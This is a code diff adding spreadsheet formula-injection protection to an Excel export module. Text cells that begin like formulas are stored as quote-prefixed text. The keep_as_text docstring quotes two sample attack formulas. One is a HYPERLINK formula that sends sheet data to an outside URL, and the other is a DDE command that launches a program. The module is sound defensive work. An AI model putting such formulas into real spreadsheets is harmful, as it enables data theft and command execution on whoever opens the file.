@@ -1,9 +1,11 @@
-"""Excel sheets that read well: names Excel accepts, bold frozen headers, fitted columns.
+"""Excel sheets that are safe and read well: data never run as a formula, names Excel
+accepts, bold frozen headers, fitted columns.
 
-Workbooks the workbench writes (:func:`civeval.qual.analysis.export_xlsx`,
-:func:`civeval.diagnosis.workbook.export_xlsx`) write each table with pandas, then
-:func:`format_sheet` formats the sheet; :func:`sheet_names` makes the wished sheet names
-acceptable to Excel first.
+Every workbook the workbench writes (:func:`civeval.qual.analysis.export_xlsx`,
+:func:`civeval.diagnosis.workbook.export_xlsx`) writes each table with :func:`write_sheet`:
+pandas writes it, :func:`keep_as_text` turns back into text every cell pandas would leave
+as a formula, and :func:`format_sheet` formats it. :func:`sheet_names` makes the wished
+sheet names acceptable to Excel first.
 """
 
 from __future__ import annotations
@@ -12,10 +14,51 @@ import re
 
 import pandas as pd
 
-__all__ = ["format_sheet", "sheet_names"]
+__all__ = ["FORMULA_STARTS", "format_sheet", "keep_as_text", "sheet_names", "write_sheet"]
 
 _FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
 _MAX_WIDTH = 60
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""What a spreadsheet may read as the start of a formula (the OWASP CSV-injection list)."""
+
+
+def write_sheet(writer, name: str, table: pd.DataFrame, index: bool) -> None:
+    """Write ``table`` to the sheet ``name`` of an openpyxl ``pandas.ExcelWriter``, every
+    text as text (:func:`keep_as_text`), then format it (:func:`format_sheet`).
+
+    Examples
+    --------
+    >>> import io, openpyxl
+    >>> buffer = io.BytesIO()
+    >>> with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
+    ...     write_sheet(writer, "Codes", pd.DataFrame({"code": ["=1+1"]}), index=False)
+    >>> cell = openpyxl.load_workbook(buffer)["Codes"]["A2"]
+    >>> cell.value, cell.data_type, cell.quotePrefix
+    ('=1+1', 's', True)
+    """
+    table.to_excel(writer, sheet_name=name, index=index)
+    keep_as_text(writer.sheets[name])
+    format_sheet(writer.sheets[name], table, index)
+
+
+def keep_as_text(sheet) -> None:
+    """Make every text cell of ``sheet`` that starts like a formula a plain text again.
+
+    A table's text comes from data (an action's title, a code, an interview's name, a
+    group): openpyxl stores a text starting with ``=`` as a formula, which Excel or
+    LibreOffice runs on opening (``=HYPERLINK("http://…?leak="&A1,"x")`` sends the sheet
+    away, ``=cmd|' /C calc'!A0`` starts a program); one starting with ``+``, ``-`` or
+    ``@`` becomes one when a reader edits the cell. Such cells (OWASP: texts starting
+    with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return) are stored as text, with
+    Excel's quote prefix (the ``'`` typed before a text) so that they stay text when
+    edited; the value is kept as written.
+    """
+    for row in sheet.iter_rows():
+        for cell in row:
+            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
+                cell.data_type = "s"
+                cell.quotePrefix = True
 
 
 def sheet_names(names) -> list[str]:
